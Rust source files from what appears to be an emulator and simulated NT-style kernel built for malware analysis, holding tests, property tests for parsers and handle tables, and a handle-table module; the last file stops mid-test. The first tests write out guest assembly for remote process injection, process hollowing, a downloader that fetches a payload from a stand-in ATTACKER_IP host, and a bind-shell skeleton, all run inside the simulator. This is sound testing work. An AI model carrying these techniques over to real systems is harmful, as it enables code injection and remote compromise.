    payload.mov_ri(Reg::Ecx, 3);
    payload.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    payload.int_syscall();
    // ExitProcess(self)
    payload.mov_ri(Reg::Ebx, 0xffff_ffff);
    payload.mov_ri(Reg::Ecx, 0);
    payload.mov_ri(Reg::Eax, Sysno::NtTerminateProcess as u32);
    payload.int_syscall();
    payload.hlt();
    payload.label("pmsg");
    payload.raw(b"PWN");
    let payload_bytes = payload.assemble().unwrap();

    let scratch = IMAGE_BASE + 0x2000;
    let mut injector = Asm::new(IMAGE_BASE);
    // spawn victim suspended? No: spawn running, then inject.
    injector.mov_label(Reg::Ebx, "vpath");
    syscall(
        &mut injector,
        Sysno::NtCreateUserProcess,
        &[(Reg::Ecx, 13), (Reg::Edx, 0), (Reg::Esi, scratch)],
    );
    // alloc RWX in victim
    injector.ld4(Reg::Ebx, M::abs(scratch)); // victim process handle
    syscall(
        &mut injector,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ecx, 0x1000),
            (Reg::Edx, 0b111),
            (Reg::Esi, scratch + 12),
        ],
    );
    // write payload into victim at returned base
    injector.ld4(Reg::Ebx, M::abs(scratch));
    injector.ld4(Reg::Ecx, M::abs(scratch + 12)); // dst va in victim
    injector.mov_label(Reg::Edx, "payload");
    syscall(
        &mut injector,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Esi, payload_bytes.len() as u32)],
    );
    // CreateRemoteThread(victim, payload_va)
    injector.ld4(Reg::Ebx, M::abs(scratch));
    injector.ld4(Reg::Ecx, M::abs(scratch + 12));
    syscall(
        &mut injector,
        Sysno::NtCreateThreadEx,
        &[(Reg::Edx, 0), (Reg::Esi, 0), (Reg::Edi, 0)],
    );
    injector.hlt();
    injector.label("vpath");
    injector.raw(b"C:/victim.exe");
    injector.label("payload");
    injector.raw(&payload_bytes);

    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/victim.exe", &image_from_asm(victim))
        .unwrap();
    machine
        .install_program("C:/inject.exe", &image_from_asm(injector))
        .unwrap();
    machine
        .spawn_process("C:/inject.exe", false, None, &mut NullObserver)
        .unwrap();
    let exit = machine.run(5_000_000, &mut NullObserver);
    assert_eq!(exit, RunExit::AllExited);
    let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
    assert_eq!(lines, vec!["PWN"], "payload must run inside the victim");
    // And it really ran in the victim's context:
    let victim_proc = machine.process_by_name("victim.exe").unwrap();
    assert_eq!(machine.console()[0].0, victim_proc.pid);
}

/// An attacker endpoint that serves a fixed payload after a "GET" request.
struct PayloadServer {
    payload: Vec<u8>,
}

impl RemoteEndpoint for PayloadServer {
    fn on_data(&mut self, data: &[u8]) -> Vec<Vec<u8>> {
        if data.starts_with(b"GET") {
            vec![self.payload.clone()]
        } else {
            Vec::new()
        }
    }
}

fn downloader_asm() -> Asm {
    let scratch = IMAGE_BASE + 0x2000;
    let mut asm = Asm::new(IMAGE_BASE);
    // socket
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    // connect to attacker:4444
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtSocketConnect,
        &[
            (Reg::Ecx, u32::from_be_bytes(ATTACKER_IP)),
            (Reg::Edx, 4444),
        ],
    );
    // send "GET"
    asm.ld4(Reg::Ebx, M::abs(scratch));
    asm.mov_label(Reg::Ecx, "req");
    syscall(&mut asm, Sysno::NtSocketSend, &[(Reg::Edx, 3), (Reg::Esi, 0)]);
    // recv into scratch+16 (blocking)
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut asm,
        Sysno::NtSocketRecv,
        &[
            (Reg::Ecx, scratch + 16),
            (Reg::Edx, 64),
            (Reg::Esi, scratch + 8),
        ],
    );
    // print what we received
    asm.ld4(Reg::Ecx, M::abs(scratch + 8));
    syscall(&mut asm, Sysno::NtDisplayString, &[(Reg::Ebx, scratch + 16)]);
    asm.hlt();
    asm.label("req");
    asm.raw(b"GET");
    asm
}

#[test]
fn socket_download_delivers_payload() {
    let mut machine = Machine::new(MachineConfig::default());
    machine.net.add_endpoint(
        ATTACKER_IP,
        4444,
        Box::new(PayloadServer { payload: b"MALWARE".to_vec() }),
    );
    machine
        .install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    machine
        .spawn_process("C:/dl.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    assert_eq!(machine.console()[0].1, "MALWARE");
}

#[test]
fn record_then_replay_is_identical() {
    // Record.
    let mut live = Machine::new(MachineConfig::default());
    live.net.add_endpoint(
        ATTACKER_IP,
        4444,
        Box::new(PayloadServer { payload: b"SECRET99".to_vec() }),
    );
    live.install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    live.spawn_process("C:/dl.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(live.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let live_console: Vec<String> = live.console().iter().map(|(_, s)| s.clone()).collect();
    let live_ticks = live.ticks();
    let log = live.net.recorded().clone();

    // Replay with no endpoint attached.
    let config = MachineConfig::default();
    let fabric = NetworkFabric::new_replay(config.guest_ip, log);
    let mut replay = Machine::with_fabric(config, fabric);
    replay
        .install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    replay
        .spawn_process("C:/dl.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(replay.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let replay_console: Vec<String> =
        replay.console().iter().map(|(_, s)| s.clone()).collect();

    assert_eq!(live_console, replay_console, "replay must be observably identical");
    assert_eq!(live_console[0], "SECRET99");
    assert!(replay.net.divergence().is_none());
    // Same instruction count — the strong determinism property.
    assert_eq!(live_ticks, replay.ticks());
}

#[test]
fn get_proc_address_stub_resolves_exports() {
    use faros_kernel::module::hash_name;
    let scratch = IMAGE_BASE + 0x2000;
    let mut asm = Asm::new(IMAGE_BASE);
    // EBX = hash("VirtualAlloc"); call GetProcAddress stub.
    asm.mov_ri(Reg::Ebx, hash_name("VirtualAlloc"));
    asm.mov_ri(Reg::Edx, 0); // will hold stub address
    asm.hlt(); // placeholder: patched below via direct kernel query
    let _ = asm;

    // Easier path: assemble with the export address resolved host-side.
    let machine_probe = Machine::new(MachineConfig::default());
    let ntdll = &machine_probe.kernel_modules()[0];
    let gpa = ntdll.find_export("GetProcAddress").unwrap().va;
    let valloc = ntdll.find_export("VirtualAlloc").unwrap().va;

    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_ri(Reg::Ebx, hash_name("VirtualAlloc"));
    asm.mov_ri(Reg::Edi, gpa);
    asm.call_reg(Reg::Edi);
    // EAX now holds VirtualAlloc's stub address; store for the assert.
    asm.st4(M::abs(scratch), Reg::Eax);
    syscall(
        &mut asm,
        Sysno::NtDisplayString,
        &[(Reg::Ebx, IMAGE_BASE), (Reg::Ecx, 0)],
    );
    asm.hlt();

    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/gpa.exe", &image_from_asm(asm))
        .unwrap();
    let pid = machine
        .spawn_process("C:/gpa.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let got = machine.read_guest(pid, scratch, 4).unwrap();
    assert_eq!(u32::from_le_bytes(got.try_into().unwrap()), valloc);
}

#[test]
fn hollowing_primitives_suspend_set_context_resume() {
    // Spawn a benign child suspended, rewrite its thread context to point at
    // injected code, resume — the skeleton of process hollowing.
    let mut benign = Asm::new(IMAGE_BASE);
    benign.mov_label(Reg::Ebx, "bmsg");
    benign.mov_ri(Reg::Ecx, 6);
    benign.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    benign.int_syscall();
    benign.hlt();
    benign.label("bmsg");
    benign.raw(b"BENIGN");

    let payload_base = 0x0100_0000;
    let mut payload = Asm::new(payload_base);
    payload.mov_label(Reg::Ebx, "hmsg");
    payload.mov_ri(Reg::Ecx, 8);
    payload.mov_ri(Reg::Eax, Sysno::NtDisplayString as u32);
    payload.int_syscall();
    payload.mov_ri(Reg::Ebx, 0xffff_ffff);
    payload.mov_ri(Reg::Ecx, 0);
    payload.mov_ri(Reg::Eax, Sysno::NtTerminateProcess as u32);
    payload.int_syscall();
    payload.hlt();
    payload.label("hmsg");
    payload.raw(b"HOLLOWED");
    let payload_bytes = payload.assemble().unwrap();

    let scratch = IMAGE_BASE + 0x2000;
    let mut hollower = Asm::new(IMAGE_BASE);
    // CreateProcess suspended → out: [proc_h, thread_h, pid]
    hollower.mov_label(Reg::Ebx, "vpath");
    syscall(
        &mut hollower,
        Sysno::NtCreateUserProcess,
        &[(Reg::Ecx, 13), (Reg::Edx, 1), (Reg::Esi, scratch)],
    );
    // Alloc RWX in child.
    hollower.ld4(Reg::Ebx, M::abs(scratch));
    syscall(
        &mut hollower,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, scratch + 12)],
    );
    // Write payload.
    hollower.ld4(Reg::Ebx, M::abs(scratch));
    hollower.ld4(Reg::Ecx, M::abs(scratch + 12));
    hollower.mov_label(Reg::Edx, "payload");
    syscall(
        &mut hollower,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Esi, payload_bytes.len() as u32)],
    );
    // GetContext(thread) into scratch+0x20 (40 bytes).
    hollower.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(&mut hollower, Sysno::NtGetContextThread, &[(Reg::Ecx, scratch + 0x20)]);
    // ctx.eip (word 8) = payload base
    hollower.ld4(Reg::Edx, M::abs(scratch + 12));
    hollower.st4(M::abs(scratch + 0x20 + 32), Reg::Edx);
    // SetContext(thread)
    hollower.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(&mut hollower, Sysno::NtSetContextThread, &[(Reg::Ecx, scratch + 0x20)]);
    // Resume.
    hollower.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(&mut hollower, Sysno::NtResumeThread, &[]);
    hollower.hlt();
    hollower.label("vpath");
    hollower.raw(b"C:/benign.exe");
    hollower.label("payload");
    hollower.raw(&payload_bytes);

    let mut machine = Machine::new(MachineConfig::default());
    machine
        .install_program("C:/benign.exe", &image_from_asm(benign))
        .unwrap();
    machine
        .install_program("C:/hollow.exe", &image_from_asm(hollower))
        .unwrap();
    machine
        .spawn_process("C:/hollow.exe", false, None, &mut NullObserver)
        .unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let lines: Vec<&str> = machine.console().iter().map(|(_, s)| s.as_str()).collect();
    assert_eq!(
        lines,
        vec!["HOLLOWED"],
        "the benign entry point must never run; the payload must"
    );
}

/// Records kernel events for assertions.
#[derive(Default)]
struct EventRecorder {
    net_rx: Vec<(Pid, FlowTuple, usize)>,
    copies: Vec<(Pid, Pid, usize)>,
    syscalls: Vec<Sysno>,
    processes: Vec<String>,
}

impl CpuHooks for EventRecorder {}
impl KernelEvents for EventRecorder {
    fn syscall_enter(&mut self, _pid: Pid, _tid: Tid, sysno: Sysno, _args: &[u32; 5]) {
        self.syscalls.push(sysno);
    }
    fn process_created(&mut self, info: &faros_kernel::ProcessInfo) {
        self.processes.push(info.name.clone());
    }
    fn net_rx(&mut self, pid: Pid, flow: &FlowTuple, dst: &[ByteRange]) {
        let len: u32 = dst.iter().map(|r| r.len).sum();
        self.net_rx.push((pid, *flow, len as usize));
    }
    fn guest_copy(&mut self, src_pid: Pid, dst_pid: Pid, runs: &[CopyRun]) {
        let len: u32 = runs.iter().map(|r| r.len).sum();
        self.copies.push((src_pid, dst_pid, len as usize));
    }
}

#[test]
fn events_fire_with_physical_ranges() {
    let mut machine = Machine::new(MachineConfig::default());
    machine.net.add_endpoint(
        ATTACKER_IP,
        4444,
        Box::new(PayloadServer { payload: b"EVIL".to_vec() }),
    );
    machine
        .install_program("C:/dl.exe", &image_from_asm(downloader_asm()))
        .unwrap();
    let mut rec = EventRecorder::default();
    machine.spawn_process("C:/dl.exe", false, None, &mut rec).unwrap();
    assert_eq!(machine.run(5_000_000, &mut rec), RunExit::AllExited);

    assert_eq!(rec.processes, vec!["dl.exe".to_string()]);
    assert!(rec.syscalls.contains(&Sysno::NtSocketConnect));
    assert!(rec.syscalls.contains(&Sysno::NtSocketRecv));
    assert_eq!(rec.net_rx.len(), 1);
    let (_, flow, len) = &rec.net_rx[0];
    assert_eq!(*len, 4);
    assert_eq!(flow.src_ip, ATTACKER_IP);
    assert_eq!(flow.src_port, 4444);
}

#[test]
fn bind_listen_accept_serves_inbound_connection() {
    // The guest binds :7777, listens, accepts, reads the peer's greeting,
    // echoes a banner, and exits — a bind-shell skeleton.
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketBind, &[(Reg::Ecx, 7777)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketListen, &[]);
    // accept -> new handle at scratch+4 (blocks until the peer dials in).
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketAccept, &[(Reg::Ecx, scratch + 4)]);
    // read the greeting
    asm.ld4(Reg::Ebx, M::abs(scratch + 4));
    syscall(
        &mut asm,
        Sysno::NtSocketRecv,
        &[(Reg::Ecx, scratch + 16), (Reg::Edx, 32), (Reg::Esi, scratch + 8)],
    );
    asm.ld4(Reg::Ecx, M::abs(scratch + 8));
    syscall(&mut asm, Sysno::NtDisplayString, &[(Reg::Ebx, scratch + 16)]);
    // answer the peer
    asm.ld4(Reg::Ebx, M::abs(scratch + 4));
    asm.mov_label(Reg::Ecx, "banner");
    syscall(&mut asm, Sysno::NtSocketSend, &[(Reg::Edx, 6), (Reg::Esi, 0)]);
    asm.hlt();
    asm.label("banner");
    asm.raw(b"shell>");

    struct Dialer;
    impl RemoteEndpoint for Dialer {
        fn on_connect(&mut self) -> Vec<Vec<u8>> {
            vec![b"knock-knock".to_vec()]
        }
        fn on_data(&mut self, _d: &[u8]) -> Vec<Vec<u8>> {
            Vec::new()
        }
    }

    // Record live.
    let mut machine = Machine::new(MachineConfig::default());
    machine
        .net
        .schedule_inbound((ATTACKER_IP, 31337), 7777, 500, Box::new(Dialer));
    machine.install_program("C:/srv.exe", &image_from_asm(asm.clone())).unwrap();
    machine.spawn_process("C:/srv.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    assert_eq!(machine.console()[0].1, "knock-knock");
    let log = machine.net.recorded().clone();

    // Replay without the dialer attached: identical.
    let config = MachineConfig::default();
    let fabric = NetworkFabric::new_replay(config.guest_ip, log);
    let mut replayed = Machine::with_fabric(config, fabric);
    replayed.install_program("C:/srv.exe", &image_from_asm(asm)).unwrap();
    replayed.spawn_process("C:/srv.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(replayed.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    assert_eq!(replayed.console()[0].1, "knock-knock");
    assert!(replayed.net.divergence().is_none());
}

#[test]
fn accept_without_bind_is_rejected() {
    let scratch = IMAGE_BASE + 0x1000;
    let mut asm = Asm::new(IMAGE_BASE);
    syscall(&mut asm, Sysno::NtSocketCreate, &[(Reg::Ebx, scratch)]);
    asm.ld4(Reg::Ebx, M::abs(scratch));
    syscall(&mut asm, Sysno::NtSocketAccept, &[(Reg::Ecx, scratch + 4)]);
    asm.st4(M::abs(scratch + 12), Reg::Eax);
    asm.hlt();
    let mut machine = Machine::new(MachineConfig::default());
    machine.install_program("C:/srv.exe", &image_from_asm(asm)).unwrap();
    let pid = machine.spawn_process("C:/srv.exe", false, None, &mut NullObserver).unwrap();
    assert_eq!(machine.run(5_000_000, &mut NullObserver), RunExit::AllExited);
    let got = machine.read_guest(pid, scratch + 12, 4).unwrap();
    assert_eq!(
        u32::from_le_bytes(got.try_into().unwrap()),
        faros_kernel::nt::NtStatus::InvalidDeviceState as u32
    );
}
