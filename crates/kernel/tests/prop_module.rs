//! Property tests hardening `FdlImage::parse`: module bytes are attacker
//! controlled (dropped DLLs, reflective payloads masquerading as images),
//! so the parser must be total — every input returns `Ok` or `FdlError`,
//! never panics — and valid images must survive the round trip even when
//! their export VAs point nowhere (that is a *lint*, not a parse error:
//! the kernel's own module exports symbols with no backing section).

use faros_emu::mmu::Perms;
use faros_kernel::module::{Export, FdlError, FdlImage, Section};
use faros_support::prop::{check, Config, Rng, Shrink};
use faros_support::prop_assert_eq;

/// Local wrapper so the harness's `Shrink` bound can be satisfied for the
/// kernel's (foreign) image type; images shrink at the byte level instead.
#[derive(Debug, Clone, PartialEq)]
struct ArbImage(FdlImage);

impl Shrink for ArbImage {}

/// A structurally valid image with a handful of non-overlapping sections
/// and arbitrary (possibly dangling) export VAs.
fn arb_image(rng: &mut Rng) -> FdlImage {
    let n_sections = rng.below(4) as u32;
    let mut va = 0x40_0000u32;
    let mut sections = Vec::new();
    for _ in 0..n_sections {
        let size = rng.range_u32(0, 64) as usize;
        let perms = *rng.pick(&[Perms::RX, Perms::RW, Perms::R, Perms::RWX]);
        sections.push(Section { va, data: vec![rng.next_u8(); size], perms });
        // Leave a gap so generated layouts never overlap.
        va = va.wrapping_add(size as u32 + rng.range_u32(0, 0x1000));
    }
    let n_exports = rng.below(4);
    let exports = (0..n_exports)
        .map(|i| Export { name: format!("sym{i}"), va: rng.next_u32() })
        .collect();
    FdlImage { entry: rng.next_u32(), export_table_va: rng.next_u32(), sections, exports }
}

#[test]
fn parse_is_total_on_arbitrary_bytes() {
    check(
        "parse_is_total_on_arbitrary_bytes",
        Config::with_cases(512),
        |rng| {
            // Bias toward the magic so the fuzzer spends most cases past the
            // first check, inside the table-parsing paths.
            let mut bytes = rng.vec_of(0, 96, |r| r.next_u8());
            if rng.below(4) != 0 && bytes.len() >= 4 {
                bytes[..4].copy_from_slice(b"FDL1");
            }
            bytes
        },
        |bytes| {
            // Must never panic; any outcome is acceptable.
            let _ = FdlImage::parse(bytes);
            Ok(())
        },
    );
}

#[test]
fn parse_is_total_on_mutated_valid_images() {
    check(
        "parse_is_total_on_mutated_valid_images",
        Config::with_cases(512),
        |rng| {
            let mut bytes = arb_image(rng).to_bytes();
            // Corrupt a few bytes and/or truncate — the classic malformed
            // headers: wild section offsets/sizes, wrong counts, cut tables.
            for _ in 0..rng.below(5) {
                if bytes.is_empty() {
                    break;
                }
                let at = rng.below(bytes.len() as u64) as usize;
                bytes[at] = rng.next_u8();
            }
            if rng.next_bool() {
                let keep = rng.below(bytes.len() as u64 + 1) as usize;
                bytes.truncate(keep);
            }
            bytes
        },
        |bytes| {
            if let Ok(img) = FdlImage::parse(bytes) {
                // Whatever parsed must re-serialize and re-parse stably.
                let reparsed = FdlImage::parse(&img.to_bytes())
                    .map_err(|e| format!("accepted image must round-trip: {e}"))?;
                prop_assert_eq!(reparsed, img);
            }
            Ok(())
        },
    );
}

#[test]
fn valid_images_round_trip_even_with_dangling_exports() {
    check(
        "valid_images_round_trip_even_with_dangling_exports",
        Config::with_cases(256),
        |rng| ArbImage(arb_image(rng)),
        |ArbImage(img)| {
            // Out-of-range export VAs are deliberately NOT a parse error —
            // flagging them is `faros-analyze`'s job (the kernel module
            // itself exports stubs with no backing section).
            let parsed = FdlImage::parse(&img.to_bytes())
                .map_err(|e| format!("valid image must parse: {e}"))?;
            prop_assert_eq!(&parsed, img);
            Ok(())
        },
    );
}

#[test]
fn truncations_of_valid_images_never_panic() {
    let img = FdlImage {
        entry: 0x40_0000,
        export_table_va: 0x40_3000,
        sections: vec![
            Section { va: 0x40_0000, data: vec![0x71; 32], perms: Perms::RX },
            Section { va: 0x40_1000, data: vec![0; 16], perms: Perms::RW },
        ],
        exports: vec![Export { name: "start".into(), va: 0x40_0000 }],
    };
    let bytes = img.to_bytes();
    for cut in 0..bytes.len() {
        let r = FdlImage::parse(&bytes[..cut]);
        assert!(r.is_err(), "prefix of length {cut} must be rejected");
        if cut < 4 {
            assert_eq!(r, Err(FdlError::BadMagic));
        }
    }
    assert_eq!(FdlImage::parse(&bytes).unwrap(), img);
}
