//! Property tests for kernel substrates: the filesystem, handle tables,
//! and a differential test of guest ALU execution against a host-side
//! model.
//!
//! Runs on the in-tree deterministic harness (`faros_support::prop`) with
//! the pinned default seed; set `FAROS_PROP_SEED` to explore other streams.

use faros_emu::asm::Asm;
use faros_emu::cpu::{Cpu, NoHooks, StepEvent};
use faros_emu::isa::{AluOp, Reg};
use faros_emu::mem::PhysMem;
use faros_emu::mmu::{AddressSpace, Asid, Perms};
use faros_kernel::fs::FileSystem;
use faros_kernel::handle::{HandleObject, HandleTable, Pid};
use faros_support::arb;
use faros_support::prop::{check, Config};
use faros_support::{prop_assert, prop_assert_eq};

#[test]
fn fs_write_read_round_trip() {
    check(
        "fs_write_read_round_trip",
        Config::default(),
        |rng| {
            rng.vec_of(1, 12, |r| {
                (r.range_u32(0, 256), r.vec_of(1, 32, |r2| r2.next_u8()))
            })
        },
        |chunks| {
            // Apply a series of writes; a host-side Vec<u8> is the model.
            let mut fs = FileSystem::new();
            fs.create("f", Vec::new()).unwrap();
            let mut model: Vec<u8> = Vec::new();
            for (offset, bytes) in chunks {
                fs.write("f", *offset, bytes).unwrap();
                let end = *offset as usize + bytes.len();
                if model.len() < end {
                    model.resize(end, 0);
                }
                model[*offset as usize..end].copy_from_slice(bytes);
            }
            prop_assert_eq!(fs.read("f", 0, model.len() + 16).unwrap(), model);
            prop_assert_eq!(fs.version("f"), Some(1 + chunks.len() as u32));
            Ok(())
        },
    );
}

#[test]
fn handle_table_is_a_map() {
    check(
        "handle_table_is_a_map",
        Config::default(),
        |rng| rng.vec_of(1, 64, |r| r.next_bool()),
        |ops| {
            // Interleave inserts and closes; handles must stay unique and
            // live entries must stay resolvable.
            let mut table = HandleTable::new();
            let mut live: Vec<faros_kernel::Handle> = Vec::new();
            let mut inserted = 0u32;
            for &insert in ops {
                if insert || live.is_empty() {
                    let h = table.insert(HandleObject::Process(Pid(inserted)));
                    prop_assert!(!live.contains(&h), "handles never repeat while open");
                    live.push(h);
                    inserted += 1;
                } else {
                    let h = live.remove(live.len() / 2);
                    prop_assert!(table.close(h));
                    prop_assert!(table.get(h).is_none());
                }
            }
            prop_assert_eq!(table.len(), live.len());
            for h in live {
                prop_assert!(table.get(h).is_some());
            }
            Ok(())
        },
    );
}

#[test]
fn guest_alu_matches_host_model() {
    check(
        "guest_alu_matches_host_model",
        Config::default(),
        |rng| {
            (
                rng.next_u32(),
                rng.vec_of(1, 24, |r| (arb::alu_op(r), r.next_u32())),
            )
        },
        |(seed, ops)| {
            // Run `eax = seed; eax op= imm; ...` in the guest and compare
            // with the host-side AluOp::apply model.
            let mut asm = Asm::new(0x1000);
            asm.mov_ri(Reg::Eax, *seed);
            let mut expected = *seed;
            for (op, imm) in ops {
                // Emit `op eax, imm` via the matching helper.
                match op {
                    AluOp::Add => {
                        asm.add_ri(Reg::Eax, *imm);
                    }
                    AluOp::Sub => {
                        asm.sub_ri(Reg::Eax, *imm);
                    }
                    AluOp::And => {
                        asm.and_ri(Reg::Eax, *imm);
                    }
                    AluOp::Or => {
                        asm.or_ri(Reg::Eax, *imm);
                    }
                    AluOp::Xor => {
                        asm.xor_ri(Reg::Eax, *imm);
                    }
                    AluOp::Mul => {
                        asm.mul_ri(Reg::Eax, *imm);
                    }
                    AluOp::Shl => {
                        asm.shl_ri(Reg::Eax, *imm);
                    }
                    AluOp::Shr => {
                        asm.shr_ri(Reg::Eax, *imm);
                    }
                }
                expected = op.apply(expected, *imm);
            }
            asm.hlt();
            let code = asm.assemble().unwrap();
            prop_assert!(code.len() <= 4096, "program must fit one page");

            let mut mem = PhysMem::new(4);
            let frame = mem.alloc_frame().unwrap();
            mem.write(frame * 4096, &code).unwrap();
            let mut aspace = AddressSpace::new(Asid(1));
            aspace.map(0x1000, frame, Perms::RX);
            let mut cpu = Cpu::new();
            cpu.context_mut().eip = 0x1000;
            let mut steps = 0;
            loop {
                match cpu.step(&mut mem, &aspace, &mut NoHooks) {
                    StepEvent::Halt => break,
                    StepEvent::Normal | StepEvent::Branch => {}
                    other => prop_assert!(false, "unexpected event {other:?}"),
                }
                steps += 1;
                prop_assert!(steps < 10_000);
            }
            prop_assert_eq!(cpu.reg(Reg::Eax), expected);
            Ok(())
        },
    );
}

#[test]
fn page_round_trip_through_translation() {
    check(
        "page_round_trip_through_translation",
        Config::default(),
        |rng| rng.vec_of(1, 32, |r| r.range_u32(0, 4096)),
        |offsets| {
            // Bytes written through one mapping must be readable through a
            // second mapping of the same frame (aliasing is how
            // cross-process visibility works).
            let mut mem = PhysMem::new(4);
            let frame = mem.alloc_frame().unwrap();
            let mut a = AddressSpace::new(Asid(1));
            let mut b = AddressSpace::new(Asid(2));
            a.map(0x10_000, frame, Perms::RW);
            b.map(0x90_000, frame, Perms::R);
            for (i, off) in offsets.iter().enumerate() {
                let pa = a
                    .translate(0x10_000 + off, faros_emu::mmu::Access::Write)
                    .unwrap();
                mem.write_u8(pa, i as u8).unwrap();
                let pb = b
                    .translate(0x90_000 + off, faros_emu::mmu::Access::Read)
                    .unwrap();
                prop_assert_eq!(pa, pb, "same frame, same offset");
                prop_assert_eq!(mem.read_u8(pb).unwrap(), i as u8);
            }
            Ok(())
        },
    );
}
