//! Per-process handle tables.

use crate::nt::{CURRENT_PROCESS, CURRENT_THREAD};
use std::collections::BTreeMap;
use std::fmt;

/// A process identifier.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct Pid(pub u32);

impl fmt::Display for Pid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "pid:{}", self.0)
    }
}

/// A thread identifier (unique machine-wide).
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct Tid(pub u32);

impl fmt::Display for Tid {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "tid:{}", self.0)
    }
}

/// A guest-visible handle value.
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default,
)]
pub struct Handle(pub u32);

impl Handle {
    /// The pseudo-handle for the calling process.
    pub const PROCESS_SELF: Handle = Handle(CURRENT_PROCESS);
    /// The pseudo-handle for the calling thread.
    pub const THREAD_SELF: Handle = Handle(CURRENT_THREAD);
}

impl fmt::Display for Handle {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "h:{:#x}", self.0)
    }
}

/// What a handle refers to.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum HandleObject {
    /// An open file: path plus the current seek offset.
    File {
        /// Guest filesystem path.
        path: String,
        /// Seek position.
        offset: u32,
    },
    /// Another process.
    Process(Pid),
    /// A thread.
    Thread(Pid, Tid),
    /// A socket, identified by its fabric connection id (or unbound).
    Socket {
        /// Connection id within the network fabric, once connected/accepted.
        conn: Option<u32>,
        /// Local port, once bound.
        local_port: Option<u16>,
    },
    /// A section object created over a file.
    Section {
        /// Backing file path.
        path: String,
    },
}

/// A per-process handle table.
///
/// # Examples
///
/// ```
/// use faros_kernel::handle::{HandleObject, HandleTable, Pid};
///
/// let mut table = HandleTable::new();
/// let h = table.insert(HandleObject::Process(Pid(4)));
/// assert!(matches!(table.get(h), Some(HandleObject::Process(Pid(4)))));
/// assert!(table.close(h));
/// assert!(table.get(h).is_none());
/// ```
#[derive(Debug, Clone, Default)]
pub struct HandleTable {
    entries: BTreeMap<u32, HandleObject>,
    next: u32,
}

impl HandleTable {
    /// Creates an empty table. Handle values start at 4 and step by 4, as on
    /// NT.
    pub fn new() -> HandleTable {
        HandleTable { entries: BTreeMap::new(), next: 4 }
    }

    /// Inserts an object, returning its new handle.
    pub fn insert(&mut self, obj: HandleObject) -> Handle {
        let h = self.next;
        self.next += 4;
        self.entries.insert(h, obj);
        Handle(h)
    }

    /// Looks up a handle.
    pub fn get(&self, h: Handle) -> Option<&HandleObject> {
        self.entries.get(&h.0)
    }

    /// Looks up a handle mutably.
    pub fn get_mut(&mut self, h: Handle) -> Option<&mut HandleObject> {
        self.entries.get_mut(&h.0)
    }

    /// Closes a handle. Returns `false` if it was not open.
    pub fn close(&mut self, h: Handle) -> bool {
        self.entries.remove(&h.0).is_some()
    }

    /// Number of open handles.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// Returns `true` if no handles are open.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Iterates over `(handle, object)` pairs in handle order.
    pub fn iter(&self) -> impl Iterator<Item = (Handle, &HandleObject)> + '_ {
        self.entries.iter().map(|(&h, o)| (Handle(h), o))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn handles_are_distinct_and_nt_shaped() {
        let mut t = HandleTable::new();
        let a = t.insert(HandleObject::Process(Pid(1)));
        let b = t.insert(HandleObject::Process(Pid(2)));
        assert_ne!(a, b);
        assert_eq!(a.0 % 4, 0);
        assert_eq!(b.0, a.0 + 4);
    }

    #[test]
    fn close_then_get_fails() {
        let mut t = HandleTable::new();
        let h = t.insert(HandleObject::File { path: "x".into(), offset: 0 });
        assert!(t.close(h));
        assert!(!t.close(h), "double close is reported");
        assert!(t.get(h).is_none());
        assert!(t.is_empty());
    }

    #[test]
    fn get_mut_allows_seek_updates() {
